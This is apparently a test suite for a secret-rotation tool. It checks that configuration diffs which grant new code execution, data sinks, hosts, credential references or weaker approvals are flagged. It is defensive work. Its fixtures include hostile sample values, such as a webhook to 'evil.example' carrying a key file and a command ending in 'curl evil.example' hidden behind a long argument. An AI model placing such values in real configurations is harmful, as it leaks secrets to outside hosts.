"""What a changed configuration gives somebody: each kind of gain by the change that gives it."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from rotation.config import Configuration, load
from rotation.journal.entries import Identity
from rotation.operations.changes import Changes, Gains, changes
from tests.rotation.config.files import HEAD, SECRET

NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
READER = "{id: billing-api, type: store-reader, refresh: 5m, accept_elapsed: true}"
LOCAL = "commands: bin\nfile_roots: [/run/secrets]\n"
BASE = f"{HEAD}{LOCAL}secrets:\n{SECRET}"
ACME = f"sha256:{'ab' * 32}"
ORDERS = SECRET.replace("billing", "orders")


def loaded(directory: Path, text: str) -> Configuration:
    directory.mkdir(mode=0o700, exist_ok=True)
    path = directory / "rotation.yaml"
    path.write_text(text)
    path.chmod(0o600)
    return load(path, bindings=False)


def between(
    directory: Path, old: str, new: str, rows: dict[str, Identity] | None = None
) -> Changes:
    return changes(loaded(directory / "old", old), loaded(directory / "new", new), NOW, rows)


def test_the_same_in_other_words_is_no_change(tmp_path: Path) -> None:
    lines = BASE.replace("    owner: team-payments\n", "").replace(
        "    application: billing\n", "    owner: team-payments\n    application: billing\n"
    )
    assert lines != BASE
    assert between(tmp_path, BASE, f"# a comment\n{lines}").same


# The change, what is gained by it, and a part of the words.
GAINS = {
    "a command of a consumer": (
        READER, "{id: billing-api, type: command, argv: [send, --all], confirms: true}",
        Gains.CODE, 'starts ["send", "--all"]',
    ),
    "the directory of the commands": ("commands: bin", "commands: /tmp", Gains.CODE, "commands: /tmp"),
    "a package of plugins": (
        "commands: bin", 'commands: bin\nplugins: [{distribution: acme, version: "1"}]',
        Gains.CODE, "plugins.acme",
    ),
    "a command of an alert": (
        "commands: bin",
        "commands: bin\nalerts: {routes: [{id: a, type: command, argv: [page]}]}",
        Gains.CODE, 'alerts.routes.a.argv: ["page"]',
    ),
    "a file": (
        READER,
        "{id: billing-api, type: file, path: /run/secrets/x, refresh: 5m, accept_elapsed: true}",
        Gains.SINK, "writes /run/secrets/x",
    ),
    "a place that the value is pushed to": (
        READER, "{id: billing-api, type: command, argv: [send], confirms: true}",
        Gains.SINK, "consumer billing-api gets the value",
    ),
    "a wider root": ("[/run/secrets]", "[/run/secrets, /home]", Gains.SINK, '["/home"]'),
    "another place in the store": (
        "name: prod/billing/aws", "name: dev/mine",
        Gains.SINK, "aws-iam/111122223333/billing goes to aws-secrets-manager/111122223333/eu-west-1/dev/mine",
    ),
    "a replica": (
        "name: prod/billing/aws", "name: prod/billing/aws, replicas: [eu-central-1]",
        Gains.SINK, "a replica in eu-central-1",
    ),
    "another user in the same place": (
        "user: billing", "user: admin", Gains.SINK, "gets aws-iam/111122223333/admin",
    ),
    "an endpoint": (
        "region: eu-west-1", 'region: eu-west-1, endpoint: "http://127.0.0.1:1"',
        Gains.HOST, "connections.aws-prod.endpoint: http://127.0.0.1:1",
    ),
    "a connection": (
        "commands: bin", '  mine: {type: aws, account: "444455556666", region: eu-west-1}\ncommands: bin',
        Gains.HOST, "connections.mine.account",
    ),
    "another region of a connection": (
        "region: eu-west-1", "region: eu-north-1", Gains.HOST, "connections.aws-prod.region: eu-north-1",
    ),
    "a webhook": (
        "commands: bin",
        "commands: bin\nalerts: {routes: [{id: a, type: webhook, url: 'https://evil.example', secret: /etc/key}]}",
        Gains.HOST, "alerts.routes.a.url: https://evil.example",
    ),
    "a file with a key": (
        "commands: bin",
        "commands: bin\nalerts: {routes: [{id: a, type: webhook, url: 'https://evil.example', secret: /etc/key}]}",
        Gains.REFERENCE, "alerts.routes.a.secret: /etc/key",
    ),
    "a login's file": (
        "region: eu-west-1", "region: eu-west-1, credentials_file: /etc/login",
        Gains.REFERENCE, "connections.aws-prod.credentials_file: /etc/login",
    ),
    "the digest of a package's files": (
        "commands: bin", f'commands: bin\nplugins: [{{distribution: acme, version: "1", digest: "{ACME}"}}]',
        Gains.CODE, "plugins.acme.digest: sha256",
    ),
    "another journal": ("commands: bin", "commands: bin\njournal: other.db", Gains.REFERENCE, "journal: other.db"),
}  # fmt: skip


@pytest.mark.parametrize("name", GAINS)
def test_each_kind_of_gain_is_found_by_the_change_that_gives_it(tmp_path: Path, name: str) -> None:
    before, after, kind, words = GAINS[name]
    assert before in BASE
    found = between(tmp_path, BASE, BASE.replace(before, after))
    assert [gain for gain in found.gains if gain.kind is kind and words in gain.what], found
    back = between(tmp_path, BASE.replace(before, after), BASE)
    taken = [gain for gain in back.gains if gain.kind is kind and words in gain.what]
    assert not taken, "taking it away gives nobody anything"
    assert not back.same


PEOPLE = "approvals: {allowed_signers: a, approvers: [{id: alice}, {id: bob}, {id: carol}]}\n"
ASKS = "classes: {production: {approvals: {destroy: 2, expire: 24h, by: [alice, bob]}}}\n"


@pytest.mark.parametrize(
    ("before", "after", "words"),
    [
        ("{id: carol}", "{id: carol}, {id: eve}", "approvals.approvers.eve.id: eve"),
        ("signers: a", "signers: b", "approvals.allowed_signers: b"),
        ("destroy: 2", "destroy: 1", "production.approvals.destroy: 2 -> 1"),
        ("destroy: 2", "promote: 2", "production.approvals.destroy: 2 -> 0"),
        ("[alice, bob]", "[alice, carol]", 'by: ["alice", "bob"] -> ["alice", "carol"]'),
        ("24h", "240h", "approvals.expire_s: 86400 -> 864000"),
        ("destroy: 2", "os_users: accepted, destroy: 2", "os_users: null -> accepted"),
        (ASKS, "", "production.approvals.destroy: 2 -> null"),
    ],
)
def test_fewer_or_other_approvers_are_a_gain(
    tmp_path: Path, before: str, after: str, words: str
) -> None:
    text = BASE + PEOPLE + ASKS
    found = between(tmp_path, text, text.replace(before, after))
    assert [gain for gain in found.gains if gain.kind is Gains.APPROVAL and words in gain.what], (
        found.gains
    )


def test_more_approvers_are_none(tmp_path: Path) -> None:
    text = BASE + PEOPLE + ASKS
    assert between(tmp_path, BASE + PEOPLE, text).gains == []
    more = text.replace("destroy: 2", "promote: 1, destroy: 2")
    assert between(tmp_path, text, more).gains == []


# A command and another one that a reviewer could take for the same.
LONG = ["a" * 130, "harmless"]
COMMANDS = {
    "another end": (LONG, [*LONG[:1], "curl evil.example"]),
    "another middle": (["a" * 130, "b" * 130], ["a" * 130 + "c", "b" * 130]),
    "fewer words": (["page", "--dry-run", "all"], ["page", "all"]),
    "another order": (["page", "a", "b"], ["page", "b", "a"]),
}


@pytest.mark.parametrize("name", COMMANDS)
@pytest.mark.parametrize("of", ["a consumer", "an alert"])
def test_any_other_words_are_another_command(tmp_path: Path, name: str, of: str) -> None:
    def text(words: list[str]) -> str:
        argv = json.dumps(["send", *words])
        if of == "an alert":
            route = f"{{id: a, type: command, argv: {argv}}}"
            return BASE.replace("commands: bin", f"commands: bin\nalerts: {{routes: [{route}]}}")
        return BASE.replace(READER, f"{{id: c, type: command, argv: {argv}, confirms: true}}")

    before, after = COMMANDS[name]
    found = between(tmp_path, text(before), text(after))
    gained = [gain.what for gain in found.gains if gain.kind is Gains.CODE]
    assert gained, found
    assert gained[0].endswith(f'{after[-1][-20:]}"]'), "the end is shown, whatever comes before it"


def test_a_package_that_is_no_longer_held_to_its_files_is_a_gain(tmp_path: Path) -> None:
    def trusting(more: str) -> str:
        line = f'plugins: [{{distribution: acme, version: "1"{more}}}]'
        return BASE.replace("commands: bin", f"commands: bin\n{line}")

    pinned = trusting(f', digest: "{ACME}"')
    [gain] = between(tmp_path, pinned, trusting("")).gains
    assert (gain.kind, gain.what) == (Gains.CODE, "plugins.acme.digest: none, so any files")
    assert not between(tmp_path, pinned, BASE).gains


def test_a_long_freeze_that_changed_at_its_end_is_a_change(tmp_path: Path) -> None:
    def frozen(reason: str) -> str:
        return (
            f"{BASE}freezes: [{{from: 2026-12-01, to: 2026-12-05, reason: {'x' * 130}{reason}}}]\n"
        )

    assert not between(tmp_path, frozen("a"), frozen("b")).same


def vault(staging: str) -> str:
    return f"""installation: 0f3a9c2b71de
connections:
  v: {{type: vault, address: "https://vault.example:8200",
       cluster: "6f0c8f0e-33f1-4c8d-a6bd-9dbd9cc44a2e", auth: approle, role: 8f3a, login_file: /etc/r}}
secrets:
  - id: token
    application: a
    environment: production
    owner: team-payments
    store: {{type: vault-kv2, connection: v, mount: secret, path: pay/token{staging}}}
    issuer: {{type: generated, kind: token, unverified: true}}
    consumers: [{READER}]
"""


def test_where_a_value_waits_is_a_sink(tmp_path: Path) -> None:
    usual, moved = vault(""), vault(", staging: shared")
    [gain] = between(tmp_path, usual, moved).gains
    assert (gain.kind, gain.what) == (Gains.SINK, "stages new values in shared/")
    assert not between(tmp_path, moved, usual).gains


def test_whose_gain_it_is(tmp_path: Path) -> None:
    found = between(tmp_path, BASE, BASE.replace("prod/billing/aws", "dev/mine"))
    assert {gain.whose for gain in found.gains} == {"team-payments: billing-iam"}


def test_a_wider_include_is_a_gain_and_a_narrower_one_is_none(tmp_path: Path) -> None:
    def including(names: str) -> str:
        may = f"{{names: [{names}], stored: ['*'], issued: ['*'], connections: ['*']}}"
        return f"{HEAD}include:\n  - {{files: team.yaml, owner: team-payments, may: {may}}}\n"

    for place in ("old", "new"):
        (tmp_path / place).mkdir(mode=0o700)
        (tmp_path / place / "team.yaml").write_text(f"secrets:\n{SECRET}")
        (tmp_path / place / "team.yaml").chmod(0o600)
    wide, narrow = including("'billing-*', 'orders-*'"), including("'billing-*'")
    [gain] = between(tmp_path, narrow, wide).gains
    assert (gain.kind, gain.what) == (Gains.RIGHT, 'include.team.yaml.may.names: ["orders-*"]')
    back = between(tmp_path, wide, narrow)
    assert not back.gains
    assert len(back.settings) == 1


def test_what_is_new_gone_renamed_and_moves(tmp_path: Path) -> None:
    new = BASE.replace("id: billing-iam", "id: pay\n    was: billing-iam").replace(
        "prod/billing/aws", "prod/pay"
    )
    found = between(tmp_path, f"{BASE}{ORDERS}", new)
    assert (found.new, found.gone, found.renamed) == ([], ["orders-iam"], {"billing-iam": "pay"})
    assert found.moved["pay"][0].endswith(
        "prod/billing/aws -> aws-secrets-manager/111122223333/eu-west-1/prod/pay"
    )
    added = between(tmp_path, BASE, f"{BASE}{ORDERS}")
    assert added.new == ["orders-iam"]
    assert [(gain.kind, gain.whose) for gain in added.gains] == [
        (Gains.SINK, "team-payments: orders-iam")
    ]


def test_whose_pause_begins_moves_and_ends(tmp_path: Path) -> None:
    def paused(until: str) -> str:
        return f"{BASE}    state: paused\n    until: {until}\n    reason: audit\n    by: ada\n"

    found = between(tmp_path, paused("2026-12-24"), BASE)
    assert found.pauses == {"billing-iam": "ends: it was paused by ada: audit, until 2026-12-24"}
    assert not found.gains
    found = between(tmp_path, BASE, paused("2026-12-24"))
    assert found.pauses["billing-iam"].startswith("begins: paused by ada")
    found = between(tmp_path, paused("2026-12-24"), paused("2027-12-24"))
    assert found.pauses["billing-iam"].startswith("until 2026-12-24 -> 2027-12-24")


def test_what_becomes_due_at_once_by_the_journal(tmp_path: Path) -> None:
    stricter = f"{BASE}classes: {{production: {{max_age: 40d}}}}\n"
    [entry] = loaded(tmp_path / "old", BASE).secrets()
    row = Identity(
        stream=entry.stream, identity=entry.identity, secret=entry.id, seq=9, hash="",
        handle="K1", created=NOW - timedelta(days=50),
    )  # fmt: skip
    assert between(tmp_path, BASE, stricter, {entry.stream: row}).due == ["billing-iam"]
    assert between(tmp_path, stricter, stricter, {entry.stream: row}).due == []
    assert between(tmp_path, BASE, stricter).due is None
    assert "max_age_s" in between(tmp_path, BASE, stricter).changed["billing-iam"]


def test_an_unknown_setting_is_a_change_all_the_same(tmp_path: Path) -> None:
    found = between(tmp_path, BASE, f"{BASE}limits: {{concurrency: 9}}\n")
    assert (found.gains, found.settings) == ([], ["limits.concurrency: 4 -> 9"])
